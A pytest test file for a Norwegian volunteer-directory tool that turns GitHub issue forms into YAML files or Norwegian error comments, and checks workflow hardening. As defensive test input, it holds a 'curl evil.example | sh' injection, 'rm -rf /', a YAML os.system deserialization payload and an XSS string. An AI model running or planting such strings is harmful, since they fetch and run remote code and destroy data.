"""A Norwegian form becomes a valid data file, or a Norwegian comment; hostile input is only data."""

from __future__ import annotations

import json
import re

import pytest
import yaml

from frivilligkatalogen.forms.definitions import forms
from frivilligkatalogen.forms.templates import render

from conftest import REPO, VALID_VENUE, katalog, write_site

FORMS = {form.id: form for form in forms()}


def body(form_id: str, answers: dict[str, str]) -> str:
    """The issue body GitHub writes for a submitted form."""
    parts = []
    for item in FORMS[form_id].fields:
        value = answers.get(item.id, "")
        if item.kind == "checkboxes":
            value = ("- [X] " if value else "- [ ] ") + "x"
        parts.append(f"### {item.label}\n\n{value or '_No response_'}")
    return "\n\n".join(parts)


def submit(tmp_path, form_id: str, answers: dict, number: int = 7, files=None, raw_body: str | None = None):
    root = tmp_path / "site"
    if not root.exists():
        write_site(root, files if files is not None else {"data/venues/hallen.yaml": VALID_VENUE, "data/organizations/laget.yaml": EXISTING})
    event = {"issue": {"number": number, "title": "$(rm -rf /) `id`", "body": raw_body if raw_body is not None else body(form_id, answers), "labels": [{"name": "skjema:" + form_id}]}}
    event_file = tmp_path / f"event-{number}.json"
    event_file.write_text(json.dumps(event), encoding="utf-8")
    out = tmp_path / f"out-{number}"
    output = tmp_path / "github-output"
    result = katalog("from-issue", "--event", str(event_file), "--root", str(root), "--out", str(out), env={"GITHUB_OUTPUT": str(output)})
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr
    return root, out, result.stdout.strip(), output.read_text(encoding="utf-8") if output.exists() else ""


EXISTING = """\
name: Laget
categories: [1200]
contact: {email: post@laget.no}
verified: 2025-01-01
"""

NEW_ORG = {
    "name": "Lindvik Sjakklubb «Springer»",
    "categories": "Rekreasjon og sosiale foreninger, Barne- og ungdomsorganisasjoner",
    "summary": "Sjakk for alle, hver torsdag på biblioteket.",
    "description": "Vi spiller **lynsjakk** og lærer bort åpninger.",
    "email": "post@springer.no",
    "phone": "55 12 34 56",
    "person_name": "Kari Nordmann",
    "person_role": "leder",
    "consent": "x",
    "area": "Sentrum",
    "age_min": "8",
    "postal_code": "0150",
    "activity_title": "Sjakkveld",
    "activity_place": "Lindvik bibliotek",
    "activity_days": "torsdag",
    "activity_start": "18:00",
    "activity_end": "20:00",
    "activity_from": "2026-09-03",
    "confirm": "x",
}


def test_new_association_form_becomes_a_valid_file(tmp_path):
    root, out, said, outputs = submit(tmp_path, "ny-organisasjon", NEW_ORG)
    assert said == "pull-request: data/organizations/lindvik-sjakklubb-springer.yaml"
    assert "result=pull-request" in outputs and "branch=skjema/sak-7" in outputs
    assert katalog("check", str(root)).returncode == 0
    data = yaml.safe_load((root / "data/organizations/lindvik-sjakklubb-springer.yaml").read_text(encoding="utf-8"))
    assert data["categories"] == ["1300", "13100"]
    assert data["address"]["postal_code"] == "0150"
    assert data["activities"][0]["schedule"][0]["days"] == ["thu"]
    assert data["verified"] == "2026-11-22"
    assert "Closes #7" in (out / "pr-tekst.md").read_text(encoding="utf-8")


def test_change_form_changes_only_what_is_filled_in(tmp_path):
    root, _, said, _ = submit(tmp_path, "endre-oppforing", {"id": "laget", "phone": "+47 91 23 45 67", "confirm": "x"})
    assert said == "pull-request: data/organizations/laget.yaml"
    data = yaml.safe_load((root / "data/organizations/laget.yaml").read_text(encoding="utf-8"))
    assert data["contact"] == {"email": "post@laget.no", "phone": "+47 91 23 45 67"}
    assert data["name"] == "Laget" and str(data["verified"]) == "2026-11-22"
    assert katalog("check", str(root)).returncode == 0


def test_change_form_keeps_the_file_s_comments_and_untouched_lines(tmp_path):
    existing = (
        "# Lagets oppføring. Spør koordinatoren før dere endrer kategoriene.\n"
        "name: Laget\n"
        "categories: [1200]  # idrett\n"
        "description: |\n"
        "  Vi trener **hver uke**.\n"
        "\n"
        "  Alle er velkomne.\n"
        "contact:\n"
        "  email: post@laget.no  # styrets felles adresse\n"
        "verified: 2025-01-01\n"
    )
    root, _, said, _ = submit(tmp_path, "endre-oppforing", {"id": "laget", "email": "ikke en adresse", "confirm": "x"},
                              files={"data/venues/hallen.yaml": VALID_VENUE, "data/organizations/laget.yaml": existing})
    text = (root / "data/organizations/laget.yaml").read_text(encoding="utf-8")
    assert said == "comment"  # a wrong answer is refused, and the file is left byte for byte as it was
    assert text == existing
    root, _, said, _ = submit(tmp_path, "endre-oppforing", {"id": "laget", "phone": "+47 91 23 45 67", "confirm": "x"}, number=8)
    assert said == "pull-request: data/organizations/laget.yaml"
    text = (root / "data/organizations/laget.yaml").read_text(encoding="utf-8")
    changed = [line for line in text.splitlines() if line not in existing.splitlines()]
    assert changed == ['  phone: "+47 91 23 45 67"', "verified: 2026-11-22"]
    for line in existing.splitlines():
        if not line.startswith("verified"):
            assert line in text.splitlines(), line
    assert katalog("check", str(root)).returncode == 0


def test_new_venue_form_becomes_a_valid_file(tmp_path):
    answers = {"venue_name": "Grendehuset på Holmøy", "venue_type": "Grendehus og samfunnshus", "street": "Holmøyvegen 2", "postal_code": "5710", "city": "Holmøy", "capacity": "80", "facilities": "kjøkken, scene", "free_for_volunteers": "x", "booking_email": "booking@holmoy.no"}
    root, _, said, _ = submit(tmp_path, "nytt-lokale", answers)
    assert said == "pull-request: data/venues/grendehuset-pa-holmoy.yaml"
    data = yaml.safe_load((root / "data/venues/grendehuset-pa-holmoy.yaml").read_text(encoding="utf-8"))
    assert data["type"] == "community_house" and data["facilities"] == ["kitchen", "stage"]
    assert data["booking"]["free_for_volunteers"] == "true"
    assert katalog("check", str(root)).returncode == 0


def test_report_form_makes_no_file(tmp_path):
    root, out, said, outputs = submit(tmp_path, "meld-fra", {"page": "Laget", "problem": "Telefonnummeret er feil."})
    assert said == "report" and "result=report" in outputs
    assert sorted(p.name for p in (root / "data/organizations").iterdir()) == ["laget.yaml"]
    assert "koordinator" in (out / "kommentar.md").read_text(encoding="utf-8")


@pytest.mark.parametrize(
    "change, says",
    [
        ({"email": "post(at)springer.no"}, "Svaret «Kontaktinformasjon: Lagets e-post»: «post(at)springer.no» er ikke en gyldig e-postadresse."),
        ({"phone": "1234"}, "Svaret «Kontaktinformasjon: Lagets telefon»: «1234» er ikke et norsk telefonnummer"),
        ({"activity_start": "18.00"}, "Svaret «Faste tider: Starter klokken»: «18.00» er ikke et klokkeslett på formen TT:MM"),
        ({"age_min": "åtte"}, "Svaret «Hvem laget er for: Alder fra»: «åtte» er ikke et heltall."),
        ({"area": "Månen"}, "Svaret «Område i kommunen»: «Månen» er ikke et av områdene"),
        ({"consent": ""}, "Kontaktpersonens navn publiseres bare med samtykke"),
        ({"categories": "Idrett, Sjakk"}, "Svaret «Kategorier i Frivillighetsregisteret»: «Sjakk» er ikke et av valgene."),
        ({"org_number": "971497018"}, "Svaret «Organisasjonsnummer»: «971497018» har feil kontrollsiffer"),
        ({"activity_from": "3. september"}, "Svaret «Faste tider: Første dag»: «3. september» er ikke en dato"),
        ({"name": "X"}, "Svaret «Navnet på laget»: Teksten er for kort"),
    ],
)
def test_each_kind_of_mistake_gives_a_norwegian_comment_and_no_file(tmp_path, change, says):
    root, out, said, outputs = submit(tmp_path, "ny-organisasjon", {**NEW_ORG, **change})
    assert said == "comment" and "result=comment" in outputs
    comment = (out / "kommentar.md").read_text(encoding="utf-8")
    assert says in comment, comment
    assert comment.startswith("Takk for skjemaet!")
    assert sorted(p.name for p in (root / "data/organizations").iterdir()) == ["laget.yaml"]


def test_a_rule_about_several_questions_names_them(tmp_path):
    answers = {"venue_name": "Hus", "venue_type": "Annet", "street": "Vei 1", "postal_code": "5710", "city": "Holmøy", "free_for_volunteers": "x"}
    _, out, said, _ = submit(tmp_path, "nytt-lokale", answers)
    comment = (out / "kommentar.md").read_text(encoding="utf-8")
    assert said == "comment"
    assert "Svaret «Booking og leie: Nettside for booking / Booking og leie: E-post for booking / Booking og leie: Gratis for frivillige lag»: Booking trenger minst ett av feltene" in comment


def test_unknown_id_in_change_form(tmp_path):
    _, out, said, _ = submit(tmp_path, "endre-oppforing", {"id": "finnes-ikke", "phone": "55 12 34 56", "confirm": "x"})
    assert said == "comment" and "Fant ikke noe lag med id «finnes-ikke»" in (out / "kommentar.md").read_text(encoding="utf-8")


HOSTILE = {
    "name": "Laget $(curl evil.example | sh) `id` \"; rm -rf / #",
    "summary": "!!python/object/apply:os.system ['echo pwned']",
    "description": "key: value\n- list\n&anchor *alias\n---\n!!binary aGVp\n{: onclick=alert(1) }",
    "email": "post@laget.no",
    "categories": "Idrett",
    "confirm": "x",
}


def test_hostile_answers_are_only_data(tmp_path):
    root, _, said, _ = submit(tmp_path, "ny-organisasjon", HOSTILE)
    assert said.startswith("pull-request: data/organizations/laget-curl-evil-example-sh-id-rm-rf")
    path = root / said.split(": ", 1)[1]
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    assert data["name"] == HOSTILE["name"]
    assert data["summary"] == HOSTILE["summary"]
    assert data["description"] == HOSTILE["description"]
    assert katalog("check", str(root)).returncode == 0
    assert not (tmp_path / "pwned").exists()


def test_a_huge_body_is_refused_with_a_message(tmp_path):
    _, out, said, _ = submit(tmp_path, "ny-organisasjon", {}, raw_body="### Navnet på laget\n\n" + "x" * (1024 * 1024))
    assert said == "comment" and "for langt" in (out / "kommentar.md").read_text(encoding="utf-8")


def test_issue_without_a_form_label_is_ignored(tmp_path):
    root = tmp_path / "site"
    write_site(root, {})
    event = tmp_path / "e.json"
    event.write_text(json.dumps({"issue": {"number": 1, "body": "hei", "labels": []}}), encoding="utf-8")
    result = katalog("from-issue", "--event", str(event), "--root", str(root), "--out", str(tmp_path / "o"))
    assert result.stdout.strip() == "ignore"


def test_committed_form_files_match_the_definitions():
    folder = REPO / ".github/ISSUE_TEMPLATE"
    for form in forms():
        assert (folder / f"{form.id}.yml").read_text(encoding="utf-8") == render(form), form.id
        template = yaml.safe_load(render(form))
        assert template["labels"] == [form.label]


def test_forms_map_onto_the_contract():
    new = {item.id: item for item in FORMS["ny-organisasjon"].fields}
    assert new["categories"].kind == "dropdown" and new["categories"].multiple
    assert "Idrett" in [label for _, label in new["categories"].options]
    assert [label for _, label in new["activity_days"].options][:2] == ["mandag", "tirsdag"]
    assert new["consent"].kind == "checkboxes" and new["person_name"].target == "contact.person.name"


def test_association_page_links_the_form_service_and_the_file(example_site):
    from htmlscan import Scan

    scan = Scan((example_site / "organisasjoner/lindvik-il/index.html").read_text(encoding="utf-8"))
    links = scan.links()
    assert "http://127.0.0.1:8001/endre/lindvik-il" in links
    assert "http://127.0.0.1:8001/alt-stemmer/lindvik-il" in links
    report = next(link for link in links if link.startswith("http://127.0.0.1:8001/meld-fra?"))
    assert "lindvik-il" in report
    assert not [link for link in links if "issues/new" in link]
    for text in ("Endre oppføringen", "Alt stemmer", "Meld fra om feil"):
        assert text in scan.text
    directory = Scan((example_site / "organisasjoner/index.html").read_text(encoding="utf-8"))
    assert "http://127.0.0.1:8001/registrer" in directory.links()
    venue = Scan((example_site / "lokaler/lindvik-kulturhus/index.html").read_text(encoding="utf-8"))
    assert "http://127.0.0.1:8001/endre-lokale/lindvik-kulturhus" in venue.links()
    for page in ("index.html", "veiledning/start-et-lag/index.html"):
        assert "http://127.0.0.1:8001/registrer" in Scan((example_site / page).read_text(encoding="utf-8")).links()


def test_without_a_form_service_the_pages_link_the_prefilled_issue_forms(tmp_path):
    from urllib.parse import parse_qs, urlsplit

    from conftest import mkdocs_build, write_site
    from htmlscan import Scan

    org = "name: Lindvik IL\ncategories: [1200]\ncontact: {email: post@lindvik-il.no}\nverified: 2026-09-01\n"
    site = write_site(tmp_path / "site", {"data/organizations/lindvik-il.yaml": org})
    result = mkdocs_build(site, tmp_path / "out")
    assert result.returncode == 0, result.stderr
    scan = Scan((tmp_path / "out/organisasjoner/lindvik-il/index.html").read_text(encoding="utf-8"))
    links = scan.links()
    change = next(link for link in links if "template=endre-oppforing.yml" in link)
    query = parse_qs(urlsplit(change).query)
    assert query["id"] == ["lindvik-il"] and query["title"][0].startswith("Endring: ")
    report = next(link for link in links if "template=meld-fra.yml" in link)
    assert "lindvik-il" in parse_qs(urlsplit(report).query)["page"][0]
    assert "https://github.com/test/katalog/edit/main/data/organizations/lindvik-il.yaml" in links
    for text in ("Endre oppføringen (skjema)", "Endre filen på GitHub", "Meld fra om feil"):
        assert text in scan.text
    directory = Scan((tmp_path / "out/organisasjoner/index.html").read_text(encoding="utf-8"))
    assert any("template=ny-organisasjon.yml" in link for link in directory.links())


def test_workflows_pass_zizmor_and_the_workflow_schema():
    import subprocess
    import sys
    from pathlib import Path

    bin_dir = Path(sys.executable).parent
    workflows = sorted(str(p) for p in (REPO / ".github/workflows").glob("*.yml"))
    assert len(workflows) >= 4
    zizmor = subprocess.run([str(bin_dir / "zizmor"), "--offline", str(REPO / ".github/workflows")], capture_output=True, text=True)
    assert zizmor.returncode == 0 and "No findings" in zizmor.stdout + zizmor.stderr, zizmor.stdout + zizmor.stderr
    schema = subprocess.run([str(bin_dir / "check-jsonschema"), "--builtin-schema", "vendor.github-workflows", *workflows], capture_output=True, text=True)
    assert schema.returncode == 0, schema.stdout + schema.stderr
    forms_files = [str(REPO / ".github/ISSUE_TEMPLATE" / f"{form}.yml") for form in FORMS]
    issue_forms = subprocess.run([str(bin_dir / "check-jsonschema"), "--builtin-schema", "vendor.github-issue-forms", *forms_files], capture_output=True, text=True)
    assert issue_forms.returncode == 0, issue_forms.stdout + issue_forms.stderr


def test_workflows_follow_the_hardening_rules():
    for path in (REPO / ".github/workflows").glob("*.yml"):
        text = path.read_text(encoding="utf-8")
        workflow = yaml.safe_load(text)
        assert workflow["permissions"] == {}, path.name
        assert "pull_request_target" not in text
        for job in workflow["jobs"].values():
            for step in job["steps"]:
                if "uses" in step:
                    assert re.search(r"@[0-9a-f]{40}$", step["uses"]), step["uses"]
                    if "checkout" in step["uses"]:
                        assert step["with"]["persist-credentials"] is False
                assert "github.event" not in step.get("run", ""), f"{path.name}: {step.get('name')}"


def test_a_heading_inside_a_long_answer_stays_in_the_answer(tmp_path):
    description = "Vi trener mye.\n\n### Treningstider\n\nMandag og onsdag."
    root, _, said, _ = submit(tmp_path, "ny-organisasjon", {**NEW_ORG, "description": description})
    data = yaml.safe_load((root / said.split(": ", 1)[1]).read_text(encoding="utf-8"))
    assert data["description"] == description


def test_change_form_adds_a_new_activity_instead_of_renaming_the_first(tmp_path):
    existing = EXISTING + "activities:\n  - id: trening\n    title: Trening\n    venue: hallen\n    dates: [{date: 2027-01-10}]\n"
    answers = {"id": "laget", "activity_title": "Kveldstur", "activity_place": "Torget", "activity_days": "onsdag",
               "activity_start": "18:00", "activity_end": "20:00", "activity_from": "2026-09-02", "confirm": "x"}
    root, _, said, _ = submit(tmp_path, "endre-oppforing", answers, files={"data/venues/hallen.yaml": VALID_VENUE, "data/organizations/laget.yaml": existing})
    assert said == "pull-request: data/organizations/laget.yaml"
    data = yaml.safe_load((root / "data/organizations/laget.yaml").read_text(encoding="utf-8"))
    assert [a["id"] for a in data["activities"]] == ["trening", "kveldstur"]
    assert data["activities"][0]["title"] == "Trening"


def test_empty_mappings_survive_a_change(tmp_path):
    from frivilligkatalogen.forms.from_issue import dump

    text = dump({"name": "Lag", "social": {}, "tags": [], "volunteering": [{}], "languages": ["nb", None]})
    assert yaml.safe_load(text) == {"name": "Lag", "social": {}, "tags": [], "volunteering": [{}], "languages": ["nb"]}


def test_a_changed_value_is_quoted_and_control_characters_escaped():
    from frivilligkatalogen.registers.yaml_writer import dump_changed, load_for_change, merge_into

    document = load_for_change("name: Laget  # navnet\ncontact: {email: a@b.no}\n")
    merge_into(document, {"summary": "ja\x9b: [x] &y !!python/object", "contact": {"phone": "55 12 34 56"}})
    text = dump_changed(document)
    assert "\x9b" not in text and "\\x9B" in text.replace("\\x9b", "\\x9B")
    assert yaml.safe_load(text) == {"name": "Laget", "contact": {"email": "a@b.no", "phone": "55 12 34 56"}, "summary": "ja\x9b: [x] &y !!python/object"}
    assert "# navnet" in text
